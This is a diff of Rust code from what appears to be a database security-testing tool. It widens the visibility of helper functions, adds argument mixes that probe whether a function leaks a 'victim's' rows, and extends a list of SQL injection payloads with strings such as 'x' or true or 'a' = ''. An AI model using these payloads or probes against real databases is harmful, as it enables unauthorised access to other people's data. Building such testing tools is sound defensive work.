@@ -109,7 +109,7 @@ pub(super) async fn run(hunt: &mut Hunt) -> Result<(), SessionError> {
     Ok(())
 }
 
-fn statement(function: &Function, arguments: &[String]) -> String {
+pub(super) fn statement(function: &Function, arguments: &[String]) -> String {
     let call = format!("{}({})", function.quoted(), arguments.join(", "));
     if function.kind == "p" { format!("call {call}") } else { format!("select * from {call}") }
 }
@@ -217,7 +217,7 @@ struct Choice {
 }
 
 /// Returns the arguments of the calls to make: the victim's values, and beside each what nobody has.
-fn arguments(hunt: &Hunt, function: &Function) -> Vec<(Vec<String>, Vec<String>)> {
+pub(super) fn arguments(hunt: &Hunt, function: &Function) -> Vec<(Vec<String>, Vec<String>)> {
     let count = function.argument_types.len();
     if count == 0 {
         return vec![(Vec::new(), Vec::new())];
@@ -230,6 +230,7 @@ fn arguments(hunt: &Hunt, function: &Function) -> Vec<(Vec<String>, Vec<String>)
         choices.push(of_argument);
     }
     let mut calls: Vec<(Vec<String>, Vec<String>)> = Vec::new();
+    let mut first = true;
     let mut push = |picked: Vec<usize>| {
         let pick = |nobody: bool| -> Vec<String> {
             picked
@@ -246,7 +247,16 @@ fn arguments(hunt: &Hunt, function: &Function) -> Vec<(Vec<String>, Vec<String>)
         };
         let call = (pick(false), pick(true));
         if !calls.contains(&call) {
-            calls.push(call);
+            calls.push(call.clone());
+        }
+        // One value of the victim's among others that say nothing: what is told of its row is then not what was asked.
+        if first && count > 1 {
+            for argument in 0..count {
+                let mut mixed = call.1.clone();
+                mixed[argument].clone_from(&call.0[argument]);
+                calls.push((mixed, call.1.clone()));
+            }
+            first = false;
         }
     };
     push(vec![0; count]);
@@ -440,6 +450,10 @@ fn injections(hunt: &Hunt) -> Vec<String> {
         format!("' or {column}::text <> '' --"),
         format!("') or ({column}::text <> ''"),
         "%' or '%'='".to_owned(),
+        "x' or 'a' like '".to_owned(),
+        "x' or true or 'a' = '".to_owned(),
+        "x') or ('a' = 'a".to_owned(),
+        "0 or true".to_owned(),
         format!("{column} desc"),
         "true or true".to_owned(),
     ]
